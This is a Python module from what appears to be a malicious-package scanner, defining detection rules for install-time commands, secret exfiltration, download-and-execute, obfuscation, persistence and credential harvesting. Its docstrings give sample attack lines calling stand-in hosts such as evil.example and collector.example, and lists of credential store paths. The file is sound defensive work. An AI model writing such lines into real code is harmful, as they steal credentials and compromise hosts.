"""Behaviour rules: what the code of a package does, graded by when it runs.

Install-time code (``setup.py``, its command classes, in-tree build backends, ``.pth`` files and
the top level of modules imported while installing) weighs most; the top level of any module
(which runs on import) next; code only reachable when the library is called, least.
"""

from __future__ import annotations

from outwork.analyzers.packages.rules.base import BehaviourRule, Variant
from outwork.core.rules import Confidence, Layer, Severity

C, H, M, L, N = (
    Severity.CRITICAL,
    Severity.HIGH,
    Severity.MEDIUM,
    Severity.LOW,
    Severity.INFO,
)


class SuspiciousCommandExecution(BehaviourRule):
    """Package code starts a downloader, a hidden shell or an encoded command.

    ## What it finds
    Calls that start programs (`os.system`, `subprocess.*`, `os.popen`, `pty.spawn`,
    `asyncio.create_subprocess_*`, `pip.main`) whose command, after constant folding and
    decoding, runs PowerShell, `curl`/`wget` to a URL, a pipe into a shell, `/dev/tcp`,
    `certutil`, `mshta`, adds users, or installs more packages. Severity follows when the code
    runs: critical at install time or on import, lower when only a library function does it.

    ## Why it matters
    This is the most common payload of malicious packages: `pip install` runs `setup.py`, which
    fetches and starts a second stage before the user has imported anything.

    ## Example
    ```python
    class PostInstall(install):
        def run(self):
            os.system("curl -s https://evil.example/x | sh")
    ```

    ## Remediation
    Do not install the package. If it is installed, treat the machine as compromised: rotate the
    credentials it could reach and rebuild it. Report the package to the registry.

    ## References
    - MITRE ATT&CK T1195.002 (Compromise Software Supply Chain),
      T1059 (Command and Scripting Interpreter)
    - Ladisa et al., "SoK: Taxonomy of Attacks on Open-Source Software Supply Chains"
      (IEEE S&P 2023)
    """

    code = "PKG001"
    name = "suspicious-command-execution"
    layer = Layer.PKG
    severity = Severity.CRITICAL
    confidence = Confidence.HIGH
    cwe = (506, 78)
    attack = ("T1195.002", "T1059")
    inline_suppressible = False

    #: install, import, reached from import, only when called
    SHELL = Variant("runs a downloader, shell or encoded command", C, C, M, M)
    FETCH_AND_RUN = Variant("runs a command that fetches and runs code", C, C, C, H)
    DECODED = Variant("runs a command that only exists after decoding", C, C, C, H)
    REVERSE_SHELL = Variant("redirects standard streams onto a descriptor", C, C, C, L)
    REMOTE_PIP = Variant("installs a package from a repository or URL", C, H, H, M)
    PIP = Variant("installs other packages", H, H, H, L)
    WEAK = Variant("runs a command that reaches the network or installs software", H, M, M, L)
    ENV_SHELL = Variant("runs a shell command built from the environment", M, L, L, N)
    EMBEDDED = Variant("marshalled code holds a downloader, shell or encoded command", C, C, C, M)
    UNPARSABLE = Variant("unparsable code runs a downloader, shell or encoded command", H, H, H, L)


class SecretExfiltration(BehaviourRule):
    """Environment variables, credentials or host identity flow into a network request.

    ## What it finds
    A data flow, inside one function or module, from a secret source (`os.environ`, `os.getenv`,
    `getpass.getuser`, `socket.gethostname`, reads of credential files) to a network sink
    (`requests.*`, `urllib`, `http.client`, sockets, DNS look-ups, webhooks). Variables that name
    the user or the machine (`USERNAME`, `COMPUTERNAME`) count as host identity, and the contents
    of private keys, shell history, browser profiles or wallets sent anywhere are theft even in
    code that only runs when called.

    ## Why it matters
    Stealing CI tokens, cloud keys and developer credentials is the main goal of most poisoned
    packages; an install-time flow from the environment to the network is that theft.

    ## Example
    ```python
    requests.post("https://collector.example", data=dict(os.environ))
    ```

    ## Remediation
    Do not install the package; rotate every credential present in the environments where it ran.

    ## References
    - MITRE ATT&CK T1552.001 (Credentials In Files), T1041 (Exfiltration Over C2 Channel)
    - CWE-200: Exposure of Sensitive Information to an Unauthorized Actor
    """

    code = "PKG002"
    name = "secret-exfiltration"
    layer = Layer.PKG
    severity = Severity.CRITICAL
    confidence = Confidence.HIGH
    cwe = (200, 506)
    attack = ("T1041", "T1552.001")
    inline_suppressible = False

    #: install, import, reached from import, only when called
    SECRET = Variant("sends a configured secret", C, C, M, N)
    HOST = Variant("sends host identity", C, C, C, N)
    DUMP = Variant(
        "sends the whole environment, a private store, or to a paste, webhook or raw address",
        C,
        C,
        C,
        H,
    )
    UPLOAD = Variant("uploads collected files to a webhook, bot or paste channel", H, H, H, H)


class DownloadAndExecute(BehaviourRule):
    """Bytes fetched from the network reach code execution or a started program.

    ## What it finds
    Data flow from a download (`requests.get(...).text`, `urlopen(...).read()`, `urlretrieve`)
    into `exec`, `eval`, `compile`, a process command, or a file that is then started: also
    through archives unpacked from a download, helper functions that download to a file and
    return it or run what they are given, threads started on `os.system`, and commands received
    from a socket (a remote shell).

    ## Why it matters
    A package that runs what it downloads can change its behaviour at any time without a new
    release: the registry sees only the harmless first stage.

    ## Example
    ```python
    exec(requests.get("https://evil.example/stage2.py").text)
    ```

    ## Remediation
    Do not install the package; if it ran, treat the host as compromised.

    ## References
    - MITRE ATT&CK T1105 (Ingress Tool Transfer)
    - CWE-494: Download of Code Without Integrity Check
    """

    code = "PKG003"
    name = "download-and-execute"
    layer = Layer.PKG
    severity = Severity.CRITICAL
    confidence = Confidence.HIGH
    cwe = (494, 506)
    attack = ("T1105",)
    inline_suppressible = False

    #: install, import, reached from import, only when called
    RUNS_DOWNLOAD = Variant("runs or starts downloaded content", C, C, C, H)


class ObfuscatedCodeExecution(BehaviourRule):
    """Code decoded from base64, hex, zlib, lzma, bz2, marshal or XOR is executed.

    ## What it finds
    `exec`, `eval` and `compile` of values that only exist after decoding, and `marshal.loads`
    of embedded code objects. The decoded layers are decoded statically (never run) within a
    budget and analysed again; what they do is reported through the other rules.

    ## Why it matters
    Legitimate libraries have no reason to hide their code from the reader. Encoding layers are
    how malicious packages slip past reviewers and signature scanners.

    ## Example
    ```python
    exec(zlib.decompress(base64.b64decode("eJzLz...")))
    ```

    ## Remediation
    Do not install the package. Read the decoded layers in the finding's evidence.

    ## References
    - MITRE ATT&CK T1027 (Obfuscated Files or Information)
    - CWE-506: Embedded Malicious Code
    """

    code = "PKG004"
    name = "obfuscated-code-execution"
    layer = Layer.PKG
    severity = Severity.CRITICAL
    confidence = Confidence.HIGH
    cwe = (506, 95)
    attack = ("T1027", "T1140")
    inline_suppressible = False

    #: install, import, reached from import, only when called
    DECODED = Variant("runs code decoded statically, or a marshalled code object", C, C, C, H)
    DECODED_FLOW = Variant("runs data that flowed through a decoder", C, H, H, M)
    EMBEDDED_LOAD = Variant("loads embedded code or objects", C, H, H, H)
    FROM_ENVIRONMENT = Variant("runs code taken from the environment", H, M, M, L)
    MARSHAL_LOAD = Variant("loads marshalled code it was handed", H, M, M, L)
    COMPUTED = Variant("runs code computed at run time", M, L, L, N)
    LOAD = Variant("deserialises objects it was handed", M, L, L, N)
    UNPARSABLE = Variant("unparsable code runs decoded data", H, H, H, L)


class PersistenceWrite(BehaviourRule):
    """Package code writes to start-up folders, shell rc files, cron, services or SSH keys.

    ## What it finds
    File writes and copies whose destination, after folding, is a persistence location: the
    Windows Startup folder or Run keys, `~/.bashrc` and friends, crontab, systemd units,
    LaunchAgents, `authorized_keys`, `sitecustomize.py` or `.pth` files. Downloaded content or
    a command that fetches and runs code written into one of them, and commands that register an
    autostart entry (`reg add ...\\CurrentVersion\\Run`, `schtasks /create ... /sc onlogon`),
    weigh high even in code that only runs when called.

    ## Why it matters
    Persistence turns a one-time install into a permanent foothold that survives uninstalling
    the package.

    ## Example
    ```python
    open(os.path.expanduser("~/.bashrc"), "a").write("curl evil.example | sh\\n")
    ```

    ## Remediation
    Do not install the package; inspect and clean the named location on every host where it ran.

    ## References
    - MITRE ATT&CK T1547 (Boot or Logon Autostart Execution),
      T1546.004 (Unix Shell Configuration Modification)
    - CWE-506: Embedded Malicious Code
    """

    code = "PKG005"
    name = "persistence-write"
    layer = Layer.PKG
    severity = Severity.HIGH
    confidence = Confidence.HIGH
    cwe = (506,)
    attack = ("T1547", "T1546.004")
    inline_suppressible = False

    #: install, import, reached from import, only when called
    WRITE = Variant("writes to a persistence location", C, H, H, M)
    AUTOSTART = Variant(
        "registers an autostart entry, or writes a downloader into a start-up location",
        C,
        C,
        C,
        H,
    )
    PTH = Variant("writes a .pth start-up hook", M, M, M, L)


class CredentialHarvesting(BehaviourRule):
    """Package code reads browser profiles, wallets, chat tokens, SSH or cloud credentials.

    ## What it finds
    Reads of (or path building towards) credential stores: browser `Login Data` and `Local State`,
    Discord and Telegram token stores, cryptocurrency wallets and extensions, `~/.ssh`,
    `~/.aws/credentials`, `.npmrc`, `.pypirc`, `.git-credentials`, kube and docker configs.

    ## Why it matters
    Info-stealers shipped as packages harvest exactly these files; a library rarely needs them
    and never at install time.

    ## Example
    ```python
    path = os.getenv("APPDATA") + "\\\\discord\\\\Local Storage\\\\leveldb"
    ```

    ## Remediation
    Do not install the package; if it ran, rotate the credentials stored in those places.

    ## References
    - MITRE ATT&CK T1555 (Credentials from Password Stores), T1552 (Unsecured Credentials)
    - CWE-522: Insufficiently Protected Credentials
    """

    code = "PKG006"
    name = "credential-harvesting"
    layer = Layer.PKG
    severity = Severity.HIGH
    confidence = Confidence.MEDIUM
    cwe = (522, 506)
    attack = ("T1555", "T1552")
    inline_suppressible = False

    #: install, import, reached from import, only when called
    PATH = Variant("hands a credential store's path to a call", C, M, M, N)
    COOKIES = Variant("reads browser cookies", C, H, H, N)
    EMBEDDED = Variant("marshalled code names a credential store", C, H, H, L)
    MENTION = Variant("names a credential store", L, L, L, L)


class InstallTimeNetwork(BehaviourRule):
    """Package code reaches the network while installing or on import.

    ## What it finds
    Network calls (`requests`, `urllib`, `http.client`, sockets, DNS look-ups) in install-time
    code, or at the top level of a module, where a library has no reason to go online. Calls to
    paste sites, webhooks and raw IP addresses weigh more, and weigh high wherever the code runs
    when the address only exists after decoding (a library has no reason to hide it).

    ## Why it matters
    Installation should be reproducible and offline-capable; a network call while installing is
    a beacon, a download or an exfiltration channel.

    ## Example
    ```python
    requests.get("https://198.51.100.7/ping.php")   # in setup.py
    ```

    ## Remediation
    Review what is sent and fetched; prefer packages that vendor their data or fetch it only
    when asked, at run time.

    ## References
    - MITRE ATT&CK T1071 (Application Layer Protocol)
    - CWE-829: Inclusion of Functionality from Untrusted Control Sphere
    """

    code = "PKG007"
    name = "install-time-network"
    layer = Layer.PKG
    severity = Severity.HIGH
    confidence = Confidence.MEDIUM
    cwe = (829,)
    attack = ("T1071",)
    inline_suppressible = False

    #: install, import, reached from import, only when called
    FIXED = Variant("reaches a constant public address", H, H, M, N)
    COMPUTED = Variant("reaches the network", H, M, M, N)
    SUSPICIOUS = Variant("contacts a paste site, webhook or raw address", H, H, H, L)
    HIDDEN = Variant("contacts a paste site, webhook or raw address it hides", H, H, H, H)


class InstallTimeProcess(BehaviourRule):
    """Install-time code starts a program whose command looks ordinary.

    ## What it finds
    Process execution in `setup.py`, its command classes, `.pth` files or modules imported while
    installing, when the command (as far as folding can tell) is not a known-dangerous one:
    compilers, `git describe`, build tools. Low severity: it is context for the verdict.

    ## Why it matters
    Build steps legitimately run tools, but each is code execution on the installing host; it
    raises the weight of anything else suspicious in the same package.

    ## Example
    ```python
    subprocess.check_output(["git", "describe", "--tags"])   # in setup.py
    ```

    ## Remediation
    Prefer wheels, which install without running package code, or review the commands.

    ## References
    - PEP 517 (build backends) and PEP 427 (wheels install without running code)
    - CWE-829: Inclusion of Functionality from Untrusted Control Sphere
    """

    code = "PKG008"
    name = "install-time-process"
    layer = Layer.PKG
    severity = Severity.LOW
    confidence = Confidence.MEDIUM
    cwe = (829,)
    attack = ("T1059",)
    inline_suppressible = False

    #: install, import, reached from import, only when called
    STARTS = Variant("starts a program", L, L, L, N)
